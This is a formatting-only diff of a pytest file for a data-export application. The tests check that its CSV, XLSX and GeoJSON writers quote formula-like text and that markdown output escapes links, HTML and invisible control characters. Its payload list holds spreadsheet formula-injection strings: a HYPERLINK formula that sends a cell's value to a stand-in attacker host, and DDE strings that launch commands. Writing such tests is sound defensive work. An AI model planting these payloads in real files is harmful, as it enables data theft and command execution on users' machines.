@@ -34,8 +34,12 @@ from etl.textsafe import (
 from layers import exports, flow_exports
 from tests.crosstab_store import xt_con, xt_store_path  # noqa: F401
 
-PAYLOADS = [f"{c}HYPERLINK(\"https://evil.example/?\"&A1,\"click\")" for c in FORMULA_TRIGGERS] + \
-    ["=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd"]
+PAYLOADS = [f'{c}HYPERLINK("https://evil.example/?"&A1,"click")' for c in FORMULA_TRIGGERS] + [
+    "=1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+cmd",
+]
 
 
 def _csv_cells(data: bytes) -> list[str]:
@@ -63,6 +67,7 @@ def _assert_xlsx_safe(data: bytes, payload: str) -> None:
 
 # --- the helper -----------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_safe_cell_quotes_formula_like_text(payload):
     assert safe_cell(payload) == "'" + payload
@@ -81,15 +86,18 @@ def test_build_csv_bytes_keeps_numeric_columns_numeric():
 
 # --- every writer ---------------------------------------------------------------------------------
 
-FLOWS = build_spec(["entries"], ["ref_area"], ["time_period"], {"dataset": ["t_flow"]}, granularity="month",
-                   totals="totals")
+FLOWS = build_spec(
+    ["entries"], ["ref_area"], ["time_period"], {"dataset": ["t_flow"]}, granularity="month", totals="totals"
+)
 
 
 def _hostile_result(con, payload: str):
     result = run_crosstab(con, FLOWS)
     cat = result.catalogue
-    datasets = {k: dataclasses.replace(d, title_en=payload, title_es=payload, publisher=payload, attribution=payload)
-                for k, d in cat.datasets.items()}
+    datasets = {
+        k: dataclasses.replace(d, title_en=payload, title_es=payload, publisher=payload, attribution=payload)
+        for k, d in cat.datasets.items()
+    }
     return dataclasses.replace(result, catalogue=dataclasses.replace(cat, datasets=datasets))
 
 
@@ -100,15 +108,29 @@ def test_explorer_downloads_write_metadata_as_text(xt_con, payload):
     _assert_csv_safe(build_long_csv(result, "en", "v1"), payload)
     book = build_xlsx(result, "en", "v1")
     _assert_xlsx_safe(book, payload)
-    sources = load_workbook(io.BytesIO(book)).worksheets[-1]   # the sources sheet
+    sources = load_workbook(io.BytesIO(book)).worksheets[-1]  # the sources sheet
     titles = [row[1] for row in sources.iter_rows(min_row=2)]
     assert titles and all(c.value == payload and c.data_type == "s" for c in titles)
 
 
 def _map_frame(payload: str) -> gpd.GeoDataFrame:
-    row = {"geo_code": "GTM", "name": payload, "indicator_id": "x", "period": "2024", "value": -3.0,
-           "unit": "persons", "obs_status": "A", "dataset_id": "d1", "source": payload, "publisher": payload,
-           "licence": "CC-BY-4.0", "licence_url": "", "attribution": payload, "retrieved": "2024", "revision": "1"}
+    row = {
+        "geo_code": "GTM",
+        "name": payload,
+        "indicator_id": "x",
+        "period": "2024",
+        "value": -3.0,
+        "unit": "persons",
+        "obs_status": "A",
+        "dataset_id": "d1",
+        "source": payload,
+        "publisher": payload,
+        "licence": "CC-BY-4.0",
+        "licence_url": "",
+        "attribution": payload,
+        "retrieved": "2024",
+        "revision": "1",
+    }
     return gpd.GeoDataFrame([row], geometry=[Point(-90, 15)], crs=4326)
 
 
@@ -120,7 +142,7 @@ def test_map_downloads_write_text_cells(payload):
     geo = gpd.read_file(io.BytesIO(exports.build_geojson(frame)))
     assert geo.loc[0, "name"] == "'" + payload and geo.loc[0, "value"] == -3.0
     cells = _xlsx_cells(exports.build_xlsx(frame))
-    assert [c.value for c in cells if c.data_type == "n"].count(-3) == 1   # numbers stay numbers
+    assert [c.value for c in cells if c.data_type == "n"].count(-3) == 1  # numbers stay numbers
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -141,8 +163,9 @@ def test_validation_report_download_echoes_values_as_text(payload):
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_templates_write_metadata_and_rows_as_text(payload):
-    rows = pd.DataFrame({"period": ["2024"], "territory": [payload], "flow": ["entry"], "nationality": ["HND"],
-                         "value": [5]})
+    rows = pd.DataFrame(
+        {"period": ["2024"], "territory": [payload], "flow": ["entry"], "nationality": ["HND"], "value": [5]}
+    )
     xlsx = build_template("entries_exits", "es", "xlsx", "GTM", metadata={"title": payload}, rows=rows)
     _assert_xlsx_safe(xlsx, payload)
     text = build_template("entries_exits", "es", "csv", "GTM", rows=rows).decode("utf-8-sig")
@@ -170,11 +193,17 @@ def test_escaped_markdown_renders_as_the_same_plain_text(text):
     assert "<a " not in html and "<img" not in html and "<h1" not in html and "<li" not in html
     assert "<strong" not in html and "<em" not in html and "<code" not in html and "<blockquote" not in html
     unescaped = md.render(text)
-    assert ("<a " in unescaped or "<img" in unescaped or "<h1" in unescaped or "<strong" in unescaped
-            or "&lt;img" in unescaped)   # the attack does something when not escaped (raw HTML is escaped by md)
-    inline = md.renderInline(escape_markdown(text.replace("\n", " "))).replace("\u2060", "")   # word joiners: invisible
-    assert inline.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&").replace("&quot;", '"') == \
-        " ".join(text.replace("\n", " ").split(" "))
+    assert (
+        "<a " in unescaped
+        or "<img" in unescaped
+        or "<h1" in unescaped
+        or "<strong" in unescaped
+        or "&lt;img" in unescaped
+    )  # the attack does something when not escaped (raw HTML is escaped by md)
+    inline = md.renderInline(escape_markdown(text.replace("\n", " "))).replace("\u2060", "")  # word joiners: invisible
+    assert inline.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&").replace("&quot;", '"') == " ".join(
+        text.replace("\n", " ").split(" ")
+    )
 
 
 def test_plain_text_drops_bidi_and_controls_and_cuts():
@@ -183,8 +212,28 @@ def test_plain_text_drops_bidi_and_controls_and_cuts():
     assert plain_text(None) == ""
 
 
-@pytest.mark.parametrize("char", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
-                                  "\u2069", "\u200f", "\x00", "\x1b", "\x7f", "\x85", "\u200b", "\t", "\n"])
+@pytest.mark.parametrize(
+    "char",
+    [
+        "\u202a",
+        "\u202b",
+        "\u202c",
+        "\u202d",
+        "\u202e",
+        "\u2066",
+        "\u2067",
+        "\u2068",
+        "\u2069",
+        "\u200f",
+        "\x00",
+        "\x1b",
+        "\x7f",
+        "\x85",
+        "\u200b",
+        "\t",
+        "\n",
+    ],
+)
 def test_unsafe_characters_are_found(char):
     assert find_unsafe_characters(f"Fuente{char}IGM") == [char]
 
@@ -194,14 +243,22 @@ def test_ordinary_text_has_no_unsafe_characters():
     assert find_unsafe_characters("a\tb\nc", allow_newlines=True) == []
 
 
-@pytest.mark.parametrize("text", ["see https://evil.example/x", "www.evil.org/login", "write to a@b.com",
-                                  "[Sign in](https://x.y)", "ftp://files.example"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "see https://evil.example/x",
+        "www.evil.org/login",
+        "write to a@b.com",
+        "[Sign in](https://x.y)",
+        "ftp://files.example",
+    ],
+)
 def test_addresses_in_untrusted_text_can_never_become_links(text):
     """GFM autolinks addresses even when their punctuation is escaped; a word joiner inside them stops it."""
     from etl.textsafe import WORD_JOINER, escape_markdown
 
     shown = escape_markdown(text)
     visible = shown.replace(WORD_JOINER, "").replace("\\", "")
-    assert visible == text                                     # a person reads exactly what was typed
+    assert visible == text  # a person reads exactly what was typed
     assert "://" not in shown and "www." not in shown.replace("\\", "")
     assert "@" not in shown or shown[shown.index("@") - 1] == WORD_JOINER
